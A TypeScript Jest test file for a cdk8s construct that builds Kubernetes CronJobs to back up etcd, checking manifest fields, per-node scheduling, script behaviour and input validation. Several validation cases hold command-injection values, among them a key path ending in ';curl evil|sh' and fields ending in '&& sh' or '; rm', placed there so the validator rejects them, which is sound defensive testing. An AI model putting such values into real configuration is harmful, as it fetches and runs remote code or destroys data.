import { spawnSync } from "node:child_process";
import * as fs from "node:fs";
import * as path from "node:path";
import { Testing } from "cdk8s";
import { ValidationError } from "../../../lib/core/errors";
import {
  ETCD_SNAPSHOT_NAME_PATTERN,
  etcdSnapshotCommand,
  etcdVerifyCommand,
  renderEtcdBackupFinishScript,
} from "../../../lib/core/scripts/etcd-backup";
import { EtcdBackup, type EtcdBackupProps } from "../../../lib/cdk8s/etcd-backup";
import { busyboxBin, makeStubs, shellcheck } from "../core/scripts/stubs";
import { thrown } from "./thrown";

// Each test spawns shells and stubs; on a busy 2-core machine that takes seconds.
jest.setTimeout(60_000);

/* eslint-disable @typescript-eslint/no-explicit-any */
function synth(props?: EtcdBackupProps): any[] {
  const chart = Testing.chart();
  new EtcdBackup(chart, "backup", props);
  return Testing.synth(chart);
}

describe("EtcdBackup: synthesized CronJob", () => {
  test("single control plane, defaults", () => {
    const [cj, ...rest] = synth();
    expect(rest).toHaveLength(0);
    expect(cj.apiVersion).toBe("batch/v1");
    expect(cj.kind).toBe("CronJob");
    expect(cj.metadata).toEqual({
      name: "etcd-backup",
      namespace: "kube-system",
      labels: {
        "app.kubernetes.io/name": "etcd-backup",
        "app.kubernetes.io/instance": "etcd-backup",
        "app.kubernetes.io/managed-by": "kube-upkeep",
      },
    });
    expect(cj.spec.schedule).toBe("0 2 * * *");
    expect(cj.spec.concurrencyPolicy).toBe("Forbid");
    expect(cj.spec.startingDeadlineSeconds).toBe(300);
    expect(cj.spec.successfulJobsHistoryLimit).toBe(3);
    expect(cj.spec.failedJobsHistoryLimit).toBe(3);
    expect(cj.spec.timeZone).toBeUndefined();
    const job = cj.spec.jobTemplate.spec;
    expect(job.activeDeadlineSeconds).toBe(1800);
    expect(job.backoffLimit).toBe(2);
    const pod = job.template.spec;
    expect(pod.hostNetwork).toBe(true);
    expect(pod.restartPolicy).toBe("Never");
    expect(pod.automountServiceAccountToken).toBe(false);
    expect(pod.priorityClassName).toBe("system-cluster-critical");
    expect(pod.nodeSelector).toEqual({ "node-role.kubernetes.io/control-plane": "" });
    expect(pod.tolerations).toEqual([
      { key: "node-role.kubernetes.io/control-plane", operator: "Exists", effect: "NoSchedule" },
    ]);
    expect(pod.volumes).toEqual([
      { name: "etcd-pki", hostPath: { path: "/etc/kubernetes/pki/etcd", type: "Directory" } },
      { name: "backup", hostPath: { path: "/var/backups/etcd", type: "DirectoryOrCreate" } },
      { name: "tmp", emptyDir: {} },
    ]);
    const [snapshot, verify] = pod.initContainers;
    expect(snapshot.name).toBe("snapshot");
    expect(snapshot.image).toBe("registry.k8s.io/etcd:3.6.6-0");
    expect(snapshot.command).toEqual([
      "etcdctl",
      "--endpoints=https://127.0.0.1:2379",
      "--cacert=/etc/kubernetes/pki/etcd/ca.crt",
      "--cert=/etc/kubernetes/pki/etcd/server.crt",
      "--key=/etc/kubernetes/pki/etcd/server.key",
      "--command-timeout=300s",
      "snapshot",
      "save",
      "/var/backups/etcd/.etcd-snapshot-in-progress.db",
    ]);
    expect(snapshot.args).toBeUndefined();
    expect(snapshot.volumeMounts).toEqual([
      { name: "etcd-pki", mountPath: "/etc/kubernetes/pki/etcd", readOnly: true },
      { name: "backup", mountPath: "/var/backups/etcd" },
    ]);
    expect(verify.name).toBe("verify");
    expect(verify.image).toBe("registry.k8s.io/etcd:3.6.6-0");
    expect(verify.command).toEqual([
      "etcdutl",
      "snapshot",
      "status",
      "/var/backups/etcd/.etcd-snapshot-in-progress.db",
      "-w",
      "json",
    ]);
    const [finish] = pod.containers;
    expect(pod.containers).toHaveLength(1);
    expect(finish.name).toBe("finish");
    expect(finish.image).toBe("docker.io/library/busybox:1.37.0");
    expect(finish.command.slice(0, 2)).toEqual(["sh", "-c"]);
    expect(finish.command[2]).toBe(renderEtcdBackupFinishScript());
    for (const c of [snapshot, verify, finish]) {
      expect(c.securityContext).toEqual({
        runAsUser: 0,
        runAsGroup: 0,
        runAsNonRoot: false,
        allowPrivilegeEscalation: false,
        readOnlyRootFilesystem: true,
        capabilities: { drop: ["ALL"] },
      });
      expect(c.resources).toEqual({
        requests: { cpu: "100m", memory: "128Mi" },
        limits: { memory: "1Gi" },
      });
    }
  });

  test("HA: one CronJob per node, pinned by hostname", () => {
    const cjs = synth({ nodes: ["cp-1", "cp-2.example.com", "cp-3"] });
    expect(cjs.map((c) => c.metadata.name)).toEqual([
      "etcd-backup-cp-1",
      "etcd-backup-cp-2-example-com",
      "etcd-backup-cp-3",
    ]);
    expect(cjs[1].metadata.annotations).toEqual({ "kube-upkeep.io/node": "cp-2.example.com" });
    expect(cjs[1].spec.jobTemplate.spec.template.spec.nodeSelector).toEqual({
      "node-role.kubernetes.io/control-plane": "",
      "kubernetes.io/hostname": "cp-2.example.com",
    });
    for (const c of cjs) expect(c.spec.schedule).toBe("0 2 * * *");
  });

  test("long node names give names within the CronJob limit of 52", () => {
    const node = "control-plane-node-with-a-very-long-name.datacenter-1.example.com";
    const [cj] = synth({ nodes: [node] });
    expect(cj.metadata.name.length).toBeLessThanOrEqual(52);
    expect(cj.metadata.name).toMatch(/^etcd-backup-control-plane-node-with-a-v\w*-[0-9a-f]{8}$/);
  });

  test("every option reaches the manifest", () => {
    const [cj] = synth({
      namespace: "backups",
      name: "etcd-snap",
      schedule: "30 */6 * * *",
      timeZone: "Asia/Seoul",
      endpoint: "https://10.0.0.5:2379",
      cacert: "/etc/etcd/pki/ca.pem",
      cert: "/etc/etcd/client/client.pem",
      key: "/etc/etcd/client/client-key.pem",
      backupDir: "/srv/etcd",
      retention: { count: 10 },
      etcdImage: "registry.example.com/etcd:3.6.16-0",
      shellImage: "docker.io/library/alpine:3.22",
      startingDeadlineSeconds: 120,
      activeDeadlineSeconds: 600,
      timeoutSeconds: 120,
      backoffLimit: 0,
      successfulJobsHistoryLimit: 1,
      failedJobsHistoryLimit: 5,
      resources: { cpuRequest: "250m", memoryRequest: "256Mi", memoryLimit: "2Gi", cpuLimit: "1" },
      priorityClassName: "system-node-critical",
    });
    expect(cj.metadata.namespace).toBe("backups");
    expect(cj.metadata.name).toBe("etcd-snap");
    expect(cj.spec.schedule).toBe("30 */6 * * *");
    expect(cj.spec.timeZone).toBe("Asia/Seoul");
    expect(cj.spec.startingDeadlineSeconds).toBe(120);
    expect(cj.spec.successfulJobsHistoryLimit).toBe(1);
    expect(cj.spec.failedJobsHistoryLimit).toBe(5);
    expect(cj.spec.jobTemplate.spec.activeDeadlineSeconds).toBe(600);
    expect(cj.spec.jobTemplate.spec.backoffLimit).toBe(0);
    const pod = cj.spec.jobTemplate.spec.template.spec;
    expect(pod.priorityClassName).toBe("system-node-critical");
    expect(pod.initContainers[0].image).toBe("registry.example.com/etcd:3.6.16-0");
    expect(pod.containers[0].image).toBe("docker.io/library/alpine:3.22");
    expect(pod.initContainers[0].command).toEqual([
      "etcdctl",
      "--endpoints=https://10.0.0.5:2379",
      "--cacert=/etc/etcd/pki/ca.pem",
      "--cert=/etc/etcd/client/client.pem",
      "--key=/etc/etcd/client/client-key.pem",
      "--command-timeout=120s",
      "snapshot",
      "save",
      "/srv/etcd/.etcd-snapshot-in-progress.db",
    ]);
    // the two certificate directories are mounted read-only, each at its own path
    expect(pod.volumes.slice(0, 2)).toEqual([
      { name: "etcd-pki-0", hostPath: { path: "/etc/etcd/client", type: "Directory" } },
      { name: "etcd-pki-1", hostPath: { path: "/etc/etcd/pki", type: "Directory" } },
    ]);
    expect(pod.initContainers[0].volumeMounts).toEqual([
      { name: "etcd-pki-0", mountPath: "/etc/etcd/client", readOnly: true },
      { name: "etcd-pki-1", mountPath: "/etc/etcd/pki", readOnly: true },
      { name: "backup", mountPath: "/srv/etcd" },
    ]);
    expect(pod.containers[0].command[2]).toContain("keep_count=10");
    expect(pod.containers[0].command[2]).toContain("max_age_days=0");
    expect(pod.containers[0].resources).toEqual({
      requests: { cpu: "250m", memory: "256Mi" },
      limits: { cpu: "1", memory: "2Gi" },
    });
  });

  test("nested certificate directories are mounted once (the outer one)", () => {
    const [cj] = synth({ cacert: "/etc/kubernetes/pki/ca.crt" });
    const pod = cj.spec.jobTemplate.spec.template.spec;
    expect(pod.volumes[0]).toEqual({
      name: "etcd-pki",
      hostPath: { path: "/etc/kubernetes/pki", type: "Directory" },
    });
  });

  test("the finish script passes shellcheck", () => {
    const [cj] = synth({ retention: { days: 3, count: 5 } });
    shellcheck(
      "#!/usr/bin/env bash\n" + cj.spec.jobTemplate.spec.template.spec.containers[0].command[2],
    );
  });

  test.each([
    ["/bin/sh (dash) and GNU tools", false],
    ["busybox sh and busybox tools, as in the shell image", true],
  ])(
    "the synthesized commands run outside a container, paths mapped to temp dirs: %s",
    (_name, busybox) => {
      const s = makeStubs();
      try {
        if (busybox) s.env.PATH = `${s.bin}:${busyboxBin(s.dir)}`;
        const [cj] = synth({ retention: { days: 7, count: 3 } });
        const pod = cj.spec.jobTemplate.spec.template.spec;
        const backups = path.join(s.dir, "backups");
        const map = (v: string) =>
          v
            .split("/var/backups/etcd")
            .join(backups)
            .split("/etc/kubernetes/pki/etcd")
            .join(path.join(s.dir, "pki"));
        fs.mkdirSync(backups);
        const old = (name: string, days: number) => {
          fs.writeFileSync(path.join(backups, name), "old");
          const t = Date.now() / 1000 - days * 86400;
          fs.utimesSync(path.join(backups, name), t, t);
        };
        old("etcd-snapshot-20260101T020000Z.db", 9); // older than 7 days
        old("etcd-snapshot-20260102T020000Z.db", 3); // 4th newest: beyond count 3
        old("etcd-snapshot-20260103T020000Z.db", 2);
        old("etcd-snapshot-20260104T020000Z.db", 1);
        old("unrelated.db", 30);
        const steps: string[][] = [
          ...pod.initContainers.map((c: any) => c.command.map(map)),
          pod.containers[0].command.map(map),
        ];
        for (const argv of steps) {
          const r = spawnSync(argv[0], argv.slice(1), { env: s.env, encoding: "utf8" });
          expect(r.stderr).not.toContain("ERROR");
          expect(r.status).toBe(0);
        }
        expect(s.calls()).toEqual([etcdSnapshotCommand().map(map), etcdVerifyCommand().map(map)]);
        const files = fs.readdirSync(backups).sort();
        expect(files).toHaveLength(4);
        expect(files.slice(0, 2)).toEqual([
          "etcd-snapshot-20260103T020000Z.db",
          "etcd-snapshot-20260104T020000Z.db",
        ]);
        expect(files[2]).toMatch(ETCD_SNAPSHOT_NAME_PATTERN);
        expect(files[3]).toBe("unrelated.db");
        expect(fs.statSync(path.join(backups, files[2])).mode & 0o777).toBe(0o600);
      } finally {
        s.cleanup();
      }
    },
  );
});

describe("EtcdBackup: validation names the construct path, the field, the value and the fix", () => {
  const cases: [string, EtcdBackupProps, RegExp][] = [
    [
      "invalid cron",
      { schedule: "0 25 * * *" },
      /^test\/backup: invalid schedule "0 25 \* \* \*": cron-parser rejects it .*Fix: give five fields/,
    ],
    [
      "six-field cron",
      { schedule: "0 0 2 * * *" },
      /invalid schedule "0 0 2 \* \* \*": has 6 fields/,
    ],
    ["cron macro", { schedule: "@daily" }, /invalid schedule "@daily"/],
    [
      "retention days < 1",
      { retention: { days: 0 } },
      /^test\/backup: invalid retention.days 0: must be an integer from 1/,
    ],
    ["retention count < 1", { retention: { count: -3 } }, /invalid retention.count -3/],
    [
      "snapshot timeout not below the Job deadline",
      { timeoutSeconds: 600, activeDeadlineSeconds: 600 },
      /^test\/backup: invalid timeoutSeconds 600: the snapshot may take as long as the whole Job \(activeDeadlineSeconds 600\).*Fix: give timeoutSeconds below activeDeadlineSeconds \(defaults: 300 and 1800\)/,
    ],
    [
      "relative backup dir",
      { backupDir: "var/backups" },
      /^test\/backup: invalid backupDir "var\/backups": path is relative. Fix: give an absolute path such as \/var\/backups/,
    ],
    [
      "non-normalized cert path",
      { cert: "/etc/kubernetes/pki/./etcd/server.crt" },
      /invalid cert .*not normalized. Fix: write it as "\/etc\/kubernetes\/pki\/etcd\/server.crt"/,
    ],
    [
      "shell metacharacters",
      { key: "/etc/kubernetes/pki/etcd/server.key;curl evil|sh" },
      /invalid key .*characters that must not reach a shell/,
    ],
    [
      "empty node list",
      { nodes: [] },
      /^test\/backup: invalid nodes \[\]: empty node list. Fix: list the control-plane node names, or leave nodes unset/,
    ],
    [
      "bad node name",
      { nodes: ["cp-1", "CP_2"] },
      /invalid nodes\[1\] "CP_2": not a DNS-1123 name/,
    ],
    ["duplicate node", { nodes: ["cp-1", "cp-1"] }, /invalid nodes\[1\] "cp-1": listed twice/],
    ["bad image", { etcdImage: "registry.k8s.io/etcd:3.6.6-0 && sh" }, /invalid etcdImage/],
    [
      "bad namespace",
      { namespace: "Kube_System" },
      /invalid namespace "Kube_System": not a DNS-1123 label/,
    ],
    ["bad time zone", { timeZone: "Asia/Seoul; rm" }, /invalid timeZone/],
    [
      "bad quantity",
      { resources: { memoryLimit: "lots" } },
      /invalid resources.memoryLimit "lots": not a Kubernetes quantity/,
    ],
    ["negative deadline", { activeDeadlineSeconds: -1 }, /invalid activeDeadlineSeconds -1/],
  ];
  test.each(cases)("%s", (_n, props, re) => {
    const err = thrown(() => synth(props));
    expect(err).toBeInstanceOf(ValidationError);
    expect(err.message).toMatch(re);
    expect(err.message).toContain("test/backup: invalid ");
    expect(err.message).toContain(". Fix: ");
  });
});
